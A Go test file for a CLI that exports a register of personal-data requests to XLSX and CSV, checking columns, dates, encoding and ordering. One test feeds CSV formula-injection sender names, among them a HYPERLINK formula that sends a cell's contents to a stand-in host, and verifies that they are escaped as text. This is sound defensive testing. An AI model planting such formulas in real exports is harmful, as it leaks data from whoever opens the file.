package cli_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// The journal of the demo register opens in a spreadsheet program: every
// column, dates as dates, Cyrillic intact; the CSV starts with a BOM.
func TestJournalOpensInASpreadsheet(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "p.db")
	must(t, db, "demo")
	x := filepath.Join(dir, "journal.xlsx")
	must(t, db, "--lang", "ru", "journal", "--format", "xlsx", "--out", x)
	f, err := excelize.OpenFile(x)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Журнал")
	if err != nil {
		t.Fatal(err)
	}
	head := strings.Join(rows[0], "|")
	for _, col := range []string{"Рег. №", "Поступило (МСК)", "Вид", "Норма", "Субъект или представитель", "Сведения ч. 3 ст. 14",
		"Заблокировано (МСК)", "Продление", "Итог", "Действие, основание", "Исх. №", "Ответ направлен (МСК)", "Способ",
		"Акты, выгрузки", "Ответственный", "Статус"} {
		if !strings.Contains(head, col) {
			t.Errorf("no column %q in %s", col, head)
		}
	}
	if len(rows) != 43 {
		t.Errorf("%d rows for 42 cases", len(rows))
	}
	// Dates are dates: a number with a date format, not text.
	typ, _ := f.GetCellType("Журнал", "B2")
	style, _ := f.GetCellStyle("Журнал", "B2")
	st, _ := f.GetStyle(style)
	if typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString || st.CustomNumFmt == nil || *st.CustomNumFmt != "dd.mm.yyyy hh:mm" {
		t.Errorf("B2 is not a date: type %v, format %v", typ, st.CustomNumFmt)
	}
	found := false
	for _, r := range rows[1:] {
		found = found || strings.ContainsAny(r[6], "абвгдеёжзийклмнопрстуфхцчшщыэюя")
	}
	if !found {
		t.Error("no Cyrillic name survived")
	}
	panes, _ := f.GetPanes("Журнал")
	if !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes: %+v", panes)
	}
	c := filepath.Join(dir, "journal.csv")
	must(t, db, "journal", "--out", c)
	b, _ := os.ReadFile(c)
	if !bytes.HasPrefix(b, []byte("\ufeff")) {
		t.Error("the CSV has no BOM")
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if err != nil || len(recs) != 43 || len(recs[0]) != len(rows[0]) {
		t.Errorf("csv: %v, %d rows", err, len(recs))
	}
	if out := must(t, db, "acts", "--json"); !strings.HasPrefix(out, "[") {
		t.Errorf("acts: %s", out)
	}
}

// A sender controls the From display name: a name that a spreadsheet would
// read as a formula reaches the journal's CSV as text.
func TestJournalCSVCarriesNoFormula(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "p.db")
	names := []string{`=HYPERLINK("http://x/?"&A1,"click")`, "+7 SUM(A1)", "-2+3", "@SUM(A1:A9)"}
	for i, n := range names {
		must(t, db, "new", "--kind", "access", "--name", n, "--email", fmt.Sprintf("s%d@example.ru", i))
	}
	out := filepath.Join(dir, "journal.csv")
	must(t, db, "journal", "--out", out)
	b, _ := os.ReadFile(out)
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if err != nil || len(recs) != len(names)+1 {
		t.Fatalf("csv: %v, %d rows", err, len(recs))
	}
	seen := 0
	for _, r := range recs[1:] {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a live formula: %q", cell)
			}
			for _, n := range names {
				if cell == "'"+n {
					seen++
				}
			}
		}
	}
	if seen != len(names) {
		t.Errorf("%d of %d names kept as text: %q", seen, len(names), recs)
	}
}

// A Russian journal opens in Russian Excel in columns (";" separates them),
// in Russian words and dates: no machine id, no ISO date.
func TestJournalInRussianForRussianExcel(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "p.db")
	must(t, db, "demo")
	out := filepath.Join(dir, "journal.csv")
	must(t, db, "--lang", "ru", "journal", "--out", out)
	b, _ := os.ReadFile(out)
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil || len(recs) != 43 || len(recs[0]) < 20 {
		t.Fatalf("csv with ';': %v, %d rows, %d columns", err, len(recs), len(recs[0]))
	}
	iso := regexp.MustCompile(`\b20\d\d-\d\d-\d\d\b`)
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if iso.MatchString(cell) {
				t.Errorf("an ISO date in %s: %q", recs[0][i], cell)
			}
			for _, id := range []string{"access", "email", "in_progress", "rejected", "withdraw-consent"} {
				if cell == id {
					t.Errorf("an English id in %s: %q", recs[0][i], cell)
				}
			}
		}
	}
}

// The report's "late now" is exactly what list --overdue shows, on the same
// register at the same moment.
func TestReportLateNowIsListOverdue(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "p.db")
	must(t, db, "demo")
	var overdue []json.RawMessage
	json.Unmarshal([]byte(must(t, db, "list", "--overdue", "--json")), &overdue)
	md := must(t, db, "report", "--period", "2026-11", "--format", "md", "--out", "-")
	want := fmt.Sprintf("Late now: %d\n", len(overdue))
	if len(overdue) == 0 || !strings.Contains(md+"\n", want) {
		t.Errorf("the report does not say %q:\n%s", want, md)
	}
}

// The journal, read a chunk at a time, lists the requests in order of the
// moment they came: across days, and within one day, whatever their
// numbers.
func TestJournalInOrderOfReceipt(t *testing.T) {
	db := filepath.Join(t.TempDir(), "p.db")
	for _, at := range []string{"2026-11-20 15:00", "2026-11-18 10:00", "2026-11-20 09:30", "2026-11-19 23:59", "2026-11-20 12:00"} {
		must(t, db, "new", "--kind", "access", "--name", "S "+at, "--email", "s@example.ru", "--received", at)
	}
	var rows []struct{ ID, Received string }
	if err := json.Unmarshal([]byte(must(t, db, "journal", "--format", "json")), &rows); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range rows {
		got = append(got, r.ID)
	}
	if want := "[2026-0002 2026-0004 2026-0003 2026-0005 2026-0001]"; fmt.Sprint(got) != want {
		t.Errorf("journal order %v, want %s", got, want)
	}
}
